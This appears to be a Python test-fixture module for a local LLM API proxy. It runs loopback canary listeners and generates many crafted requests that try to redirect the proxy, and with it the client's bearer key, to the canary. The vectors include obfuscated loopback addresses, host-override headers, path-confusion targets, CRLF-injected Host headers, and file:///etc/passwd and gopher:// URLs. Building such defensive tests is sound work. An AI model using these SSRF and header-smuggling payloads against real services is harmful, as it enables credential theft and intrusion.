"""Loopback servers that record what reaches them, and requests that try to redirect the daemon to one."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

CANARY = "CANARY"
"""The placeholder of the canary's `host:port` in a request."""
ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
)


@dataclass
class Listener:
    """Answers every request alike; `heads` has what was sent, and every connection is counted."""

    answer: bytes = ANSWER
    connections: int = 0
    heads: list[bytes] = field(default_factory=list)
    port: int = 0

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            self.heads.append(await reader.readuntil(b"\r\n\r\n"))
            writer.write(self.answer)
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()


@asynccontextmanager
async def listening(answer: bytes = ANSWER) -> AsyncIterator[Listener]:
    listener = Listener(answer)
    server = await asyncio.start_server(listener.handle, "127.0.0.1", 0)
    async with server:
        listener.port = server.sockets[0].getsockname()[1]
        yield listener


def redirect_to(listener: Listener, status: int = 307) -> bytes:
    """A reply that redirects to the listener."""
    location = f"http://{listener.address}/v1/stolen"
    return (
        f"HTTP/1.1 {status} Elsewhere\r\nLocation: {location}\r\nRefresh: 0;url={location}\r\n"
        f"Content-Location: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    ).encode()


def hosts(port: int) -> dict[str, str]:
    """Return spellings of the canary's address."""
    return {
        "plain": f"127.0.0.1:{port}",
        "by name": f"localhost:{port}",
        "short": f"127.1:{port}",
        "decimal": f"2130706433:{port}",
        "hexadecimal": f"0x7f000001:{port}",
        "octal": f"0177.0.0.1:{port}",
        "any address": f"0.0.0.0:{port}",
        "mapped into IPv6": f"[::ffff:127.0.0.1]:{port}",
        "behind a user name": f"api.openai.com@127.0.0.1:{port}",
        "with a dot at its end": f"127.0.0.1.:{port}",
    }


FIELDS = (
    "api_base",
    "base_url",
    "api_url",
    "url",
    "endpoint",
    "host",
    "server",
    "proxy",
    "proxies",
    "upstream",
    "azure_endpoint",
    "api_version",
    "custom_llm_provider",
    "organization",
)
HEADERS = (
    "X-Forwarded-Host",
    "X-Forwarded-Server",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "Forwarded",
    "X-Host",
    "X-Original-Host",
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Api-Base",
    "X-Base-Url",
    "X-Upstream",
    "X-Target-URL",
    "Helicone-Target-URL",
    "X-Portkey-Custom-Host",
    "X-Stainless-Base-Url",
    "X-HTTP-Host-Override",
    "Proxy",
    "Http-Proxy",
    "Via",
    "Location",
    "Referer",
    "Alt-Used",
    "X-Agentctx-Upstream",
    "X-Envoy-Original-Path",
)
TARGETS = (
    "http://CANARY/proxy/openai/v1/chat/completions",
    "http://CANARY/v1/chat/completions",
    "https://CANARY/proxy/openai/v1/models",
    "//CANARY/proxy/openai/v1/models",
    "//CANARY/v1/models",
    "/proxy//CANARY/v1/models",
    "/proxy/http://CANARY/v1/models",
    "/proxy/CANARY/v1/models",
    "/proxy/openai//CANARY/v1/models",
    "/proxy/openai///CANARY/v1/models",
    "/proxy/openai/http://CANARY/v1/models",
    "/proxy/openai/%2f%2fCANARY/v1/models",
    "/proxy/openai%2f%2fCANARY/v1/models",
    "/proxy/openai/%5c%5cCANARY/v1/models",
    "/proxy/openai@CANARY/v1/models",
    "/proxy/openai:x@CANARY/v1/models",
    "/proxy/openai/@CANARY/v1/models",
    "/proxy/openai/:80@CANARY/v1/models",
    "/proxy/openai/..//CANARY/v1/models",
    "/proxy/openai/%2e%2e/%2e%2e//CANARY/v1/models",
    "/proxy/openai/;@CANARY/v1/models",
    "/proxy/openai?@CANARY/v1/models",
    "/proxy/openai/?url=http://CANARY/v1/models",
    "/proxy/openai/v1/models?base_url=http://CANARY&api_base=http://CANARY",
    "/proxy/openai%0d%0aHost:%20CANARY/v1/models",
    "/proxy/openai/%0d%0aHost:%20CANARY%0d%0a/v1/models",
    "/proxy/openai/%23@CANARY/v1/models",
    "/proxy/openai.CANARY/v1/models",
    "/proxy/file://CANARY/etc/passwd",
    "/proxy/gopher://CANARY/_x",
    "/proxy/openai/%00@CANARY/v1/models",
    "/proxy/openai/\\\\CANARY/v1/models",
)


def vectors(port: int) -> Iterator[tuple[str, bytes]]:
    """Return requests with a key of the client, as bytes, by name."""
    plain = f"127.0.0.1:{port}"
    for name in FIELDS:
        body = f'{{"model":"m","messages":[{{"role":"user","content":"hi"}}],"{name}":"http://{plain}/v1"}}'
        yield f"field {name}", _request("/proxy/openai/v1/chat/completions", body=body)
    for name in HEADERS:
        yield f"header {name}", _request("/proxy/openai/v1/models", f"{name}: http://{plain}/v1")
    for target in TARGETS:
        yield f"target {target}", _request(target.replace(CANARY, plain))
    for how, host in hosts(port).items():
        yield f"Host {how}", _request("/proxy/openai/v1/models", host=host)
        yield f"absolute {how}", _request(f"http://{host}/proxy/openai/v1/models", host=host)
        yield f"path {how}", _request(f"/proxy/openai//{host}/v1/models")
        yield f"vendor {how}", _request(f"/proxy/{host}/v1/models")
    yield "CONNECT", f"CONNECT {plain} HTTP/1.1\r\nHost: {plain}\r\n\r\n".encode()
    yield "a second Host", _request("/proxy/openai/v1/models", f"Host: {plain}")
    yield "a header with a bare line feed", _request("/proxy/openai/v1/models", f"X: a\nHost: {plain}")
    yield "a folded header", _request("/proxy/openai/v1/models", f"X: a\r\n Host: {plain}")


def _request(target: str, *lines: str, host: str = "agentctx", body: str = "") -> bytes:
    head = [
        f"{'POST' if body else 'GET'} {target} HTTP/1.1",
        f"Host: {host}",
        "Authorization: Bearer client-key",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
        "Connection: close",
        *lines,
    ]
    return ("\r\n".join(head) + "\r\n\r\n" + body).encode()
